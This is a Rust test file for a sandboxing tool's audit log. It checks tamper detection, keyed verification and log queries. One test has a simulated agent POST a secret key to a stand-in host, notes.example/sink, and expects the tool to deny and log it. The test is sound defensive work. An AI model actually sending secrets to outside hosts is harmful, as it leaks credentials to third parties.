//! `carboy audit` on logs that real runs wrote.

use std::process::Output;

use serde_json::Value;

use crate::world::{Person, REAL_KEY, World};
use crate::{Case, case};

pub fn cases() -> Vec<Case> {
    vec![
        case("audit verify finds a changed byte, a cut tail and an older copy", verify),
        case("with AUDIT_INTEGRITY_KEY only its holder can verify, or forge", keyed),
        case("audit tail and query find what a run did", tail_and_query),
    ]
}

fn carboy(world: &World, arguments: &[&str]) -> Output {
    world.carboy(arguments).output().unwrap()
}

fn stdout(output: &Output) -> String {
    String::from_utf8(output.stdout.clone()).unwrap()
}

fn head(world: &World) -> String {
    let text = stdout(&carboy(world, &["audit", "verify"]));
    text.lines().find_map(|line| line.strip_prefix("head ")).unwrap().to_owned()
}

fn verify(person: Person) {
    let world = World::new(person);
    world.run(&["true"]).expect_code(0);
    let path = stdout(&carboy(&world, &["audit", "path"]));
    let path = std::path::Path::new(path.trim_end()).to_owned();
    assert_eq!(path, world.dir.join("home/audit/audit.jsonl"));
    let before = std::fs::read(&path).unwrap();
    let old_head = head(&world);
    let ran = world.run(&["true"]).expect_code(0);
    // The summary's head is the log's: noted down elsewhere it proves the tail.
    assert_eq!(ran.summary["audit_head"], head(&world));
    let whole = std::fs::read(&path).unwrap();
    for head in [&old_head, &head(&world)] {
        let output = carboy(&world, &["audit", "verify", "--head", head]);
        assert!(output.status.success() && stdout(&output).starts_with("VALID: "), "{output:?}");
    }
    let new_head = head(&world);
    let verdict = |name: &str, content: &[u8], more: &[&str]| {
        world.write(name, "");
        std::fs::write(world.dir.join(name), content).unwrap();
        let file = world.dir.join(name);
        let output = carboy(&world, &[&["audit", "verify", file.to_str().unwrap()], more].concat());
        (output.status.code(), stdout(&output))
    };
    let mut changed = whole.clone();
    let at = changed.windows(5).position(|w| w == b"\"end\"").unwrap();
    changed[at + 1] = b'E';
    let (code, text) = verdict("changed.jsonl", &changed, &[]);
    assert!(code == Some(1) && text.starts_with("TAMPERED: "), "{text}");
    // A whole line taken out of the middle.
    let lines: Vec<&[u8]> = whole.split_inclusive(|b| *b == b'\n').collect();
    let gap = [&lines[..1], &lines[2..]].concat().concat();
    let (code, text) = verdict("gap.jsonl", &gap, &[]);
    assert!(code == Some(1) && text.starts_with("TAMPERED: "), "{text}");
    // A cut tail, or an older copy: it hangs together, and only the head that was noted shows it.
    assert_eq!(verdict("cut.jsonl", &before, &[]).0, Some(0));
    let (code, text) = verdict("cut.jsonl", &before, &["--head", &new_head]);
    assert!(code == Some(1) && text.starts_with("TAMPERED: "), "{text}");
    let output = carboy(&world, &["audit", "verify", "--json"]);
    let object: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!((&object["result"], &object["head"]), (&"VALID".into(), &new_head.into()), "{object}");
    assert_eq!(carboy(&world, &["audit", "verify", "--head", "x"]).status.code(), Some(2));
}

fn keyed(person: Person) {
    let world = World::new(person);
    let key = stdout(&carboy(&world, &["audit", "keygen"])).trim_end().to_owned();
    assert!(key.len() == 64 && key != stdout(&carboy(&world, &["audit", "keygen"])).trim_end());
    let with_key =
        |arguments: &[&str], key: &str| world.carboy(arguments).env("AUDIT_INTEGRITY_KEY", key).output().unwrap();
    let run = ["run", "-q", "--bottle", "test", "--", "env"];
    let ran = with_key(&run, &key);
    assert!(ran.status.success(), "{ran:?}");
    // The key is carboy's: it is not in the bottle and not in the log.
    assert!(!stdout(&ran).contains(&key) && !stdout(&ran).contains("AUDIT_INTEGRITY_KEY"));
    assert!(!std::fs::read_to_string(world.dir.join("home/audit/audit.jsonl")).unwrap().contains(&key));
    assert!(stdout(&with_key(&["audit", "verify"], &key)).starts_with("VALID: "));
    let other = "00".repeat(32);
    let output = with_key(&["audit", "verify"], &other);
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    assert!(stdout(&output).starts_with("TAMPERED: "), "{output:?}");
    let output = carboy(&world, &["audit", "verify"]);
    assert_eq!(output.status.code(), Some(78), "{output:?}");
    assert!(stdout(&output).starts_with("UNVERIFIED: "), "{output:?}");
    assert_eq!(with_key(&["audit", "verify"], "short").status.code(), Some(78));
    assert_eq!(with_key(&run, "short").status.code(), Some(78));
}

fn tail_and_query(person: Person) {
    let world = World::new(person);
    let mut agent = world.agent();
    agent.http("GET", "https://notes.example/page/clean", &[], b"");
    agent.http("POST", "https://notes.example/sink", &[], format!("key={REAL_KEY}").as_bytes());
    let ran = agent.finish().expect_code(0);
    let json = |arguments: &[&str]| -> Vec<Value> {
        let output = carboy(&world, arguments);
        assert!(output.status.success(), "{output:?}");
        stdout(&output).lines().map(|line| serde_json::from_str(line).unwrap()).collect()
    };
    let all = json(&["audit", "query", "--json"]);
    assert_eq!(all.len(), world.log().len());
    assert_eq!(json(&["audit", "tail", "-n", "2", "--json"]), all[all.len() - 2..]);
    assert_eq!(json(&["audit", "query", "--type", "run", "--json"]).len(), 2);
    let refused = json(&["audit", "query", "--reason", "secret_known", "--json"]);
    assert_eq!(refused.len(), 1);
    assert_eq!(json(&["audit", "query", "--host", "notes.example", "--result", "denied", "--json"]), refused);
    // A name that was only looked up is a host that was asked for, too.
    world.sh("getent hosts nowhere.example").expect_code(2);
    let looked_up = json(&["audit", "query", "--host", "nowhere.example", "--json"]);
    assert!(!looked_up.is_empty() && looked_up.iter().all(|entry| entry["event_type"] == "dns"), "{looked_up:?}");
    for wrong in [["--type", "dsn"], ["--result", "refused"], ["--reason", "secret"]] {
        assert_eq!(carboy(&world, &[&["audit", "query"][..], &wrong].concat()).status.code(), Some(2), "{wrong:?}");
    }
    let run = ran.summary["run"].as_str().unwrap();
    assert_eq!(json(&["audit", "query", "--run", run, "--bottle", "test", "--json"]), all);
    assert!(json(&["audit", "query", "--until", "2020-01-01T00:00:00Z", "--json"]).is_empty());
    let last = json(&["audit", "tail", "-n", "1", "--json"]);
    assert_eq!(json(&["audit", "query", "--since", "2020-01-01T00:00:00Z", "--limit", "1", "--json"]), last);
    assert_eq!(carboy(&world, &["audit", "query", "--since", "yesterday"]).status.code(), Some(2));
    let people = stdout(&carboy(&world, &["audit", "tail", "-n", "100"]));
    assert!(people.contains("POST notes.example/sink") && people.contains("secret_known"), "{people}");
    assert!(!people.contains(REAL_KEY));
}
